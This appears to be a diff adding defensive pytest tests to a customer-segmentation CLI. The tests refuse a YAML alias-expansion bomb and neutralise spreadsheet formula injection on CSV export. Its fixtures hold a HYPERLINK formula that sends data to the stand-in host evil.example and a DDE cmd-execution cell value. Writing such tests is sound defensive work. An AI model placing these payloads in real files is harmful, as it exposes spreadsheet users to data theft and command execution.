@@ -11,7 +11,7 @@ import pytest
 from sqlalchemy import Engine
 from tests.conftest import NOW
 from tests.helpers import event, ingest
-from typer.testing import CliRunner
+from typer.testing import CliRunner, Result
 
 from retentio.cli import app
 from retentio.customers.models import CustomerUpsert
@@ -100,7 +100,7 @@ def test_create_show_list_and_export(env: dict[str, str], tmp_path: Path) -> Non
 def test_refresh_moves_customers_as_time_passes(env: dict[str, str], tmp_path: Path) -> None:
     _create(env, tmp_path)
     later = (NOW + timedelta(days=6)).isoformat()
-    result = runner.invoke(app, ["--as-of", later, "segments", "refresh"], env=env)
+    result = runner.invoke(app, ["--as-of", later, "segments", "refresh", "--custom-only"], env=env)
     assert result.exit_code == 0, result.output
     assert result.stdout.strip() == "coffee_lapsing: 0 customers (+0 entered, -1 exited)"
 
@@ -128,3 +128,92 @@ def test_unknown_segments_are_clear_errors(env: dict[str, str], tmp_path: Path) 
     result = runner.invoke(app, ["segments", "export", "nope", str(tmp_path / "x.csv")], env=env)
     assert (result.exit_code, result.stderr.strip()) == (1, "error: no segment named 'nope'")
     assert not (tmp_path / "x.csv").exists()
+
+
+def test_a_rule_file_with_yaml_aliases_is_refused_and_nothing_stored(
+    env: dict[str, str], tmp_path: Path
+) -> None:
+    # given: nested aliases that would expand to 9**9 items
+    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    lines += [
+        f"{name}: &{name} [{','.join(['*' + previous] * 9)}]"
+        for previous, name in zip("abcdefgh", "bcdefghi", strict=True)
+    ]
+    path = _rule_file(tmp_path, "\n".join(lines) + "\n")
+    # when
+    result = runner.invoke(app, ["segments", "create", "laughs", "--rule", path], env=env)
+    # then
+    assert result.exit_code == 2
+    assert result.stderr.splitlines() == [
+        "error: the rule is refused:",
+        "  rule: YAML anchors and aliases (&name, *name) are not allowed in a rule file;"
+        " found &a at line 1, column 4",
+    ]
+    assert runner.invoke(app, ["segments", "list", "--json"], env=env).stdout.strip() == "[]"
+
+
+def _export(env: dict[str, str], file: Path, *options: str) -> Result:
+    return runner.invoke(app, ["segments", "export", "coffee_lapsing", str(file), *options], env=env)
+
+
+@pytest.mark.usefixtures("viewers")
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    env: dict[str, str], engine: Engine, tmp_path: Path
+) -> None:
+    # given: anna's own names are formulas; her phone is a plain number
+    upsert = CustomerUpsert(
+        first_name='=HYPERLINK("http://evil.example/?"&A2,"Анна")',
+        last_name="@SUM(1+1)*cmd|' /C calc'!A0",
+        phone="+7 999 123-45-67",
+    )
+    with engine.begin() as connection:
+        do_upsert_customer(connection, "anna", upsert, NOW)
+    _create(env, tmp_path)
+    # when
+    result = _export(env, tmp_path / "out.csv")
+    # then
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1] == [
+        "anna",
+        "anna@example.ru",
+        "+79991234567",
+        """'=HYPERLINK("http://evil.example/?"&A2,"Анна")""",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+        NOW.isoformat(),
+    ]
+
+
+@pytest.mark.usefixtures("viewers")
+def test_export_into_a_missing_folder_is_a_clear_error(env: dict[str, str], tmp_path: Path) -> None:
+    _create(env, tmp_path)
+    target = tmp_path / "missing" / "out.csv"
+    result = _export(env, target)
+    assert (result.exit_code, result.stderr.strip()) == (
+        2,
+        f"error: cannot write {target}: the folder {target.parent} does not exist",
+    )
+    assert result.exception is None or isinstance(result.exception, SystemExit)
+    assert not target.parent.exists()
+
+
+@pytest.mark.usefixtures("viewers")
+def test_export_keeps_an_existing_file_unless_forced(env: dict[str, str], tmp_path: Path) -> None:
+    # given
+    _create(env, tmp_path)
+    target = tmp_path / "out.csv"
+    target.write_text("last week's list\n", encoding="utf-8")
+    # when
+    refused = _export(env, target)
+    # then
+    assert (refused.exit_code, refused.stderr.strip()) == (
+        2,
+        f"error: {target} exists already; pass --force to replace it",
+    )
+    assert target.read_text(encoding="utf-8") == "last week's list\n"
+    # when forced
+    forced = _export(env, target, "--force")
+    # then
+    assert forced.exit_code == 0, forced.output
+    assert target.read_text(encoding="utf-8").splitlines()[1].startswith("anna,anna@example.ru,")
